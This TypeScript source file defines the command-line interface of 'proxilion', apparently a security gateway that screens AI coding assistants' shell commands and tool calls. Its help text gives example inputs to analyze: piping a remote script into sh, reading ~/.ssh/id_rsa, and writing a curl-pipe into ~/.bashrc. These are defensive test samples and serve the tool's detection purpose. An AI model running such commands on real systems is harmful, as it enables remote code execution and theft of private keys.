import { Argument, Command, CommanderError, Option } from 'commander';
import { addHookCommands } from './hook-commands.js';
import { EXIT } from './exit.js';
import { reportFailure } from './failure.js';
import { addConfigOptions } from './config-options.js';
import { settingsHelp } from '../config/docs.js';
import { VERSION } from '../version.js';
import { INPUT_FORMATS } from '../ingest/types.js';
import { FAIL_ON, READER_THREAD_MODES } from '../scan/model.js';
import { OUTPUT_FORMATS } from './scan-formats.js';
import { AGENTS, SHELLS } from '../integrations/names.js';
import { AGENT_SETTINGS } from '../integrations/agent-settings/index.js';
import { MCP_CLIENTS } from '../integrations/mcp-config/clients.js';

const EXIT_CODES_HELP = `
Exit codes:
  0   allow (nothing at or above the alert threshold)
  1   alert
  2   block
  3   terminate
  64  usage or configuration error
  70  internal or I/O failure`;

const SCOPE_HELP = {
  agent: ['the project\'s settings file, under the current directory (the default)', 'the user\'s settings file, under the home directory'],
  mcp: ['the project\'s MCP config, under the current directory (the default; Claude Desktop has none)', 'the user\'s MCP config (Claude Desktop\'s only one)'],
} as const;

function addScopeOptions(cmd: Command, help: readonly [string, string]): Command {
  return cmd.option('--project', help[0]).option('--user', help[1]).option('--dry-run', 'print the change as a diff and write nothing');
}

/**
 * `install|uninstall <agent>` and `install|uninstall mcp <client> <server-name>`: one subcommand per
 * target. The options may also come before the target (`install --user cursor`), as they could when
 * the agent was an argument: the parent reads them (hidden) and each target merges them in.
 */
function addInstallCommand(program: Command, verb: 'install' | 'uninstall'): void {
  const adding = verb === 'install';
  const parent = program
    .command(verb)
    .description(adding
      ? 'guard an agent (add proxilion\'s hook to its settings) or an MCP server (start it through mcp-proxy); idempotent, a backup is made first'
      : 'take proxilion\'s hook out of an agent\'s settings, or start an MCP server directly again; everything else is left as it was')
    .usage('<agent> [options]  |  mcp <client> <server-name> [options]')
    .enablePositionalOptions()
    // an unknown target reaches the action below, which names the ones there are
    .allowExcessArguments(true)
    .action((_opts, cmd: Command) => {
      const target = cmd.args[0];
      const choices = `an agent (${AGENTS.join(', ')}) or mcp <client> <server-name>`;
      cmd.error(target === undefined ? `error: missing the target: ${choices}` : `error: unknown target '${target}': choose ${choices}`, { exitCode: EXIT.usage, code: 'commander.invalidArgument' });
    });
  for (const flag of ['--project', '--user', '--dry-run']) parent.addOption(new Option(flag).hideHelp());

  for (const agent of AGENTS) {
    const { label, covers } = AGENT_SETTINGS[agent];
    addScopeOptions(parent.command(agent), SCOPE_HELP.agent)
      .description(adding ? `add the hook to ${label}'s settings file (${covers})` : `remove the hook from ${label}'s settings file`)
      .allowExcessArguments(false)
      .action(async (_opts, cmd: Command) => {
        const { runAgentInstall } = await import('./install.js');
        process.exitCode = runAgentInstall(verb, agent, cmd.optsWithGlobals());
      });
  }

  addScopeOptions(parent.command('mcp'), SCOPE_HELP.mcp)
    .description(adding
      ? 'rewrite an MCP server\'s entry in the client\'s config so the client starts it through proxilion mcp-proxy'
      : 'restore an MCP server entry that install mcp rewrote, byte for byte')
    .addArgument(new Argument('<client>', 'the MCP client whose config holds the server').choices(MCP_CLIENTS))
    .argument('<server-name>', 'the server\'s name (its key) in that config')
    .allowExcessArguments(false)
    .addHelpText('after', `
Config files (--project / --user):
  claude-code     .mcp.json / ~/.claude.json (or $CLAUDE_CONFIG_DIR/.claude.json): mcpServers,
                  then the current project's projects["<dir>"].mcpServers
  cursor          .cursor/mcp.json / ~/.cursor/mcp.json: mcpServers
  claude-desktop  - / claude_desktop_config.json in ~/.config/Claude ($XDG_CONFIG_HOME),
                  ~/Library/Application Support/Claude or %APPDATA%\\Claude: mcpServers
  vscode          .vscode/mcp.json / the user profile's mcp.json (~/.config/Code/User): servers
  gemini          .gemini/settings.json / ~/.gemini/settings.json: mcpServers

Examples:
  proxilion ${verb} mcp claude-code filesystem
  proxilion ${verb} mcp claude-desktop github --dry-run
  proxilion ${verb} mcp vscode playwright --user
${adding ? `
{"command": C, "args": [A…]} becomes {"command": <node>, "args": [<proxilion>, "mcp-proxy",
"--name", <server-name>, "--", C, A…]}; every other field of the entry stays. A remote server
(url, httpUrl, serverUrl or type sse/http) has no command to wrap and is refused.
` : ''}
Exit codes: 0 done, or nothing to do; 64 usage error; 70 no such server, a remote server, or a
config file that cannot be read, understood or written (the file is then left as it was).`)
    .action(async (client: string, server: string, _opts, cmd: Command) => {
      const { runMcpInstall } = await import('./install-mcp.js');
      process.exitCode = runMcpInstall(verb, client, server, cmd.optsWithGlobals());
    });
}

export function buildProgram(): Command {
  const program = new Command('proxilion')
    .description('Security gateway for AI coding assistants: checks shell commands and tool calls before they run.')
    .version(VERSION, '-V, --version')
    .showSuggestionAfterError(true)
    .exitOverride();

  const analyze = program
    .command('analyze')
    .description('analyze a command line or tool call and print the verdict')
    .argument('[command...]', 'the shell command line (quote it, or put it after --)')
    .option('--json', 'print the verdict as JSON')
    .option('--explain', 'show how the command was read, why each rule fired and how to allow it')
    .option('--batch', 'read NDJSON (request bodies, tool calls or plain command lines) from stdin; write one verdict per line')
    .option('--request <file>', 'analyze an /analyze request body from a file, or - for stdin')
    .addOption(new Option('--tool <kind>', 'analyze a non-shell tool call').choices(['bash', 'filesystem', 'network', 'database', 'unknown']))
    .option('--operation <op>', 'filesystem: read|write|delete|list|create', 'read')
    .option('--path <path>', 'filesystem: the path')
    .option('--content <text>', 'filesystem: content to write')
    .option('--method <method>', 'network: HTTP method', 'GET')
    .option('--url <url>', 'network: the URL')
    .option('--header <name:value...>', 'network: request headers')
    .option('--body <text>', 'network: request body')
    .option('--query <sql>', 'database: the SQL query')
    .option('--tool-name <name>', 'unknown: the tool name')
    .option('--params <json>', 'unknown: the params as JSON');
  addConfigOptions(analyze, ['mode', 'thresholds.alert', 'thresholds.block', 'thresholds.terminate', 'policyFile'])
    .option('--allow-rule <id...>', 'drop findings of these rule ids (reviewed false positives)')
    .addHelpText('after', `
Examples:
  proxilion analyze "curl -s http://x.example/a.sh | sh"
  proxilion analyze --explain -- cat ~/.ssh/id_rsa
  proxilion analyze --tool filesystem --operation write --path ~/.bashrc --content 'curl x|sh'
  proxilion analyze --request body.json --json
  cat calls.ndjson | proxilion analyze --batch > verdicts.ndjson
${EXIT_CODES_HELP}
With --batch the exit code is that of the highest decision seen, or 64/70 on failure;
a bad input line yields {"line":N,"error":…} on its output line and the stream goes on.`)
    .action(async (command: string[], opts) => {
      const { runAnalyze } = await import('./analyze.js');
      process.exitCode = await runAnalyze(command, opts);
    });

  program
    .command('rules')
    .description('list the detection rules, or show one rule with its examples')
    .argument('[id]', 'a rule id such as PX-CRED-001')
    .option('--json', 'print as JSON')
    .action(async (id: string | undefined, opts: { json?: boolean }) => {
      const { runRules } = await import('./rules.js');
      process.exitCode = runRules(id, opts);
    });

  addConfigOptions(program.command('config'))
    .description('print every setting\'s effective value and where it came from (flag, environment, policy file, default)')
    .option('--json', 'print as JSON')
    .option('--check', 'only validate: exit 0, or 64 listing every problem')
    .addHelpText('after', () => settingsHelp())
    .action(async (opts) => {
      const { runConfig } = await import('./config.js');
      process.exitCode = runConfig(opts);
    });

  addConfigOptions(program.command('serve'))
    .description('run the gateway daemon: the HTTP API on 127.0.0.1:8787 (and --socket), sessions and audit log in SQLite')
    .addHelpText('after', `
Examples:
  proxilion serve
  MODE=block POLICY_FILE=policy.yaml proxilion serve --port 9000
  proxilion serve --socket "$XDG_RUNTIME_DIR/proxilion.sock"

Routes: POST /analyze, GET /health, GET /metrics, GET|DELETE /sessions/:id, GET /events, POST /check/shell.
Signals: SIGTERM/SIGINT drain in-flight requests and exit 0; SIGHUP reloads the policy file.
Exit codes: 0 after a clean shutdown, 64 for a configuration error, 70 when it cannot start or fails.
Settings: proxilion config --help`)
    .action(async (opts) => {
      const { runServe } = await import('./serve.js');
      process.exitCode = await runServe(opts);
    });

  const scan = program
    .command('scan')
    .description('replay agent transcripts, MCP logs and shell histories: every call analyzed in its session, as the daemon would')
    .argument('<paths...>', 'files or directories (walked), or - for stdin')
    .addOption(new Option('--format <format>', 'output format').choices(OUTPUT_FORMATS).default('text'))
    .addOption(new Option('--format-in <format>', 'read every input as this format instead of detecting it').choices(INPUT_FORMATS))
    .option('-o, --output <file>', 'write the report to a file instead of stdout')
    .addOption(new Option('--fail-on <decision>', 'exit 1 when a call reaches this decision').choices(FAIL_ON))
    .option('--baseline <file>', 'a previous --format json (or sarif) report: report only findings not in it')
    .option('--no-progress', 'do not draw the progress bar (it is drawn on stderr only when stderr is a terminal)')
    .addOption(new Option('--reader-thread <when>', 'read and parse the inputs on a second thread, beside the analysis (auto: from 32 MiB of files, with 2+ cores; never for stdin)').choices(READER_THREAD_MODES).default('auto'));
  addConfigOptions(scan, ['mode', 'thresholds.alert', 'thresholds.block', 'thresholds.terminate', 'policyFile'])
    .addHelpText('after', `
Input formats (detected per file; --format-in forces one): ${INPUT_FORMATS.join(', ')}.
In a directory, files in no recognized format are skipped and listed; a file named on the
command line is read as plain commands, one per line, when nothing else fits.

Examples:
  proxilion scan ~/.claude/projects
  proxilion scan --format sarif -o proxilion.sarif --fail-on block transcripts/
  proxilion scan --format json -o baseline.json logs/ && proxilion scan --baseline baseline.json logs/
  zcat mcp-traffic.log.gz | proxilion scan --format-in mcp -

Exit codes: 0 nothing reached --fail-on (or no --fail-on), 1 a call reached it,
64 usage or configuration error, 70 I/O or internal failure.`)
    .action(async (paths: string[], opts) => {
      const { runScan } = await import('./scan.js');
      process.exitCode = await runScan(paths, opts);
    });

  addConfigOptions(program.command('sessions'), ['sessionStore', 'sessionDb'])
    .description('list active sessions, or show one session with its latest events (reads the session store)')
    .argument('[id]', 'a session id')
    .option('--json', 'print as JSON')
    .option('--limit <n>', 'how many sessions, or events of one session', '20')
    .option('--reset', 'reset the session: forget it and its termination (its audit events stay)')
    .addHelpText('after', `
Exit codes: 0 done, 1 no such session, 64 usage error, 70 store failure.`)
    .action(async (id: string | undefined, opts) => {
      const { runSessions } = await import('./audit.js');
      process.exitCode = await runSessions(id, opts);
    });

  addConfigOptions(program.command('events'), ['sessionStore', 'sessionDb'])
    .description('print the audit log (every decision), oldest first')
    .option('--session <id>', 'only this session')
    .option('--decision <d>', 'only this decision: allow, alert, block or terminate')
    .option('--since <time>', 'only events since an ISO time, epoch seconds/ms, or a duration ago (30m, 2h, 7d)')
    .option('--limit <n>', 'at most this many events', '100')
    .option('--json', 'print NDJSON, one event per line')
    .action(async (opts) => {
      const { runEvents } = await import('./audit.js');
      process.exitCode = await runEvents(opts);
    });

  addHookCommands(program);

  for (const verb of ['install', 'uninstall'] as const) addInstallCommand(program, verb);

  program
    .command('mcp-proxy')
    .description('guard a stdio MCP server: relay its JSON-RPC, analyze every tools/call, answer refused calls itself')
    .argument('<server...>', 'the server command and its arguments, after --')
    .option('--name <name>', 'the server\'s name in the audit log and policy (agent mcp:<name>; default from the command)')
    .option('--session <id>', 'the session the calls are recorded under (default: a new one per proxy run)')
    .addOption(new Option('--mode <mode>', 'override MODE for this server').choices(['monitor', 'alert', 'block', 'terminate']))
    .option('--hide-denied-tools', 'leave out of tools/list the tools the policy denies')
    .addHelpText('after', `
Examples:
  proxilion mcp-proxy -- npx -y @modelcontextprotocol/server-filesystem ~/project
  proxilion mcp-proxy --name github --mode block -- docker run -i --rm ghcr.io/github/github-mcp-server

The verdict comes from the running daemon when it answers, else from this process with the shared
SQLite store, as for the agent hooks. The server's stderr is passed through; the proxy's own notes
go to stderr prefixed "proxilion mcp-proxy:". Exit: the server's exit code (or its signal).`)
    .action(async (server: string[], opts) => {
      const { runMcpProxyCommand } = await import('./mcp-proxy.js');
      process.exitCode = await runMcpProxyCommand(server, opts);
    });

  // doctor and diagnose keep the exit codes the troubleshooting scripts know: 1 is a failed check, 2 a usage error
  program
    .command('doctor')
    .exitOverride(usageExit(DOCTOR_USAGE_EXIT))
    .description('run the troubleshooting guide\'s checks against this machine and the gateway: deployment, runtime, detection, integration')
    .option('--gateway <url>', 'the gateway to examine (default: PROXILION_SOCKET, else LISTEN_ADDR, http://127.0.0.1:8787)')
    .option('--json', 'print the report as JSON')
    .option('--only <checks>', 'only these groups or check ids, comma-separated (deployment, runtime.latency, …)')
    .addHelpText('after', `
Each check passes, warns, fails or is skipped with the reason; a warning or failure prints the
symptom, what was measured, and the fix as commands with the real values filled in.

Examples:
  proxilion doctor
  proxilion doctor --only detection --gateway http://10.0.0.5:8787
  proxilion doctor --json > doctor.json

Exit codes: 0 no check failed, 1 a check failed, 2 usage error.`)
    .action(async (opts) => {
      const { runDoctor } = await import('./doctor.js');
      process.exitCode = await runDoctor(opts);
    });

  program
    .command('diagnose')
    .exitOverride(usageExit(DOCTOR_USAGE_EXIT))
    .description('write the troubleshooting guide\'s diagnostic bundle (.tar.gz): version, system, daemon log tail, metrics, health, redacted config, store statistics, the doctor report')
    .option('--out <file>', 'where to write it: a file, a directory, or - for stdout (default: ./proxilion-diagnose-<UTC time>.tar.gz)')
    .option('--gateway <url>', 'the gateway to examine (default: PROXILION_SOCKET, else LISTEN_ADDR, http://127.0.0.1:8787)')
    .option('--log <file>', 'the daemon\'s log file (its stderr, saved): the bundle keeps its last 500 lines (default: journalctl -u proxilion)')
    .addHelpText('after', `
The values of PROXILION_API_KEY, ANTHROPIC_API_KEY, the password of REDIS_URL, the path of
ALERT_WEBHOOK_URL and any variable named like a token, key, secret or password are replaced by
<redacted> in every file of the bundle. The file is written with mode 0600.

Examples:
  proxilion diagnose
  proxilion serve 2>> proxilion.log &   # then, when something is wrong:
  proxilion diagnose --log proxilion.log --out /tmp/

Exit codes: 0 written (also when the gateway does not answer: the bundle says so), 2 usage error,
70 the file cannot be written.`)
    .action(async (opts) => {
      const { runDiagnose } = await import('./diagnose.js');
      process.exitCode = await runDiagnose(opts);
    });

  program
    .command('completion')
    .description('print the shell completion script (the same as the files in completions/)')
    .addArgument(new Argument('<shell>', 'the shell').choices(SHELLS))
    .addHelpText('after', `
Examples:
  proxilion completion bash > ~/.local/share/bash-completion/completions/proxilion
  proxilion completion zsh > "\${fpath[1]}/_proxilion"
  proxilion completion fish > ~/.config/fish/completions/proxilion.fish`)
    .action(async (shell: string) => {
      const { runCompletion } = await import('./completion.js');
      process.exitCode = runCompletion(shell);
    });

  program.addHelpText('after', EXIT_CODES_HELP);
  return program;
}

/** The exit code a command's usage errors get, where it is not the usual 64. */
const usageExit = (code: number) => (e: CommanderError): never => {
  throw Object.assign(e, { usageExit: code });
};
/** DOCTOR_EXIT.usage and DIAGNOSE_EXIT.usage; their modules are loaded only when those commands run. */
const DOCTOR_USAGE_EXIT = 2;

export async function main(argv: string[]): Promise<number> {
  const program = buildProgram();
  try {
    await program.parseAsync(argv);
    return typeof process.exitCode === 'number' ? process.exitCode : 0;
  } catch (e) {
    if (e instanceof CommanderError) {
      if (e.code === 'commander.helpDisplayed' || e.code === 'commander.version' || e.code === 'commander.help') return 0;
      return (e as { usageExit?: number }).usageExit ?? EXIT.usage;
    }
    return reportFailure(e);
  }
}
